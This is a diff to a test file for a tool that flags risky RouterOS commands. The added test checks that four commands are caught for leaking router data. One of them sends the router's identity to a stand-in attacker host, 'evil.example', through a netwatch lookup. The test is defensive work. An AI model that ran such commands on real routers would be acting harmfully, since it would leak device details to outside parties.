@@ -61,6 +61,22 @@ describe("warnings", () => {
     assert.match(said("/tool mac-server set allowed-interface-list=LAN"), /way in/);
   });
 
+  it("warns before a change that puts what the router holds where others see it", () => {
+    for (const text of [
+      "/ip dns static add name=a address=[/ip address get 0 address]",
+      '/tool netwatch add host="$[/system identity get name].evil.example"',
+      "/interface l2tp-client set 0 user=[/system identity get name]",
+      ":local x [/system identity get name]; /interface l2tp-client set 0 connect-to=$x",
+    ]) {
+      const { kind, commands } = judgeScript(text);
+      assert.equal(kind, "write", text);
+      assert.ok(
+        commands.some(({ warning }) => /carry it away/.test(warning ?? "")),
+        text,
+      );
+    }
+  });
+
   it("says no word of warning over harmless changes", () => {
     for (const text of [
       "/system identity set name=x",
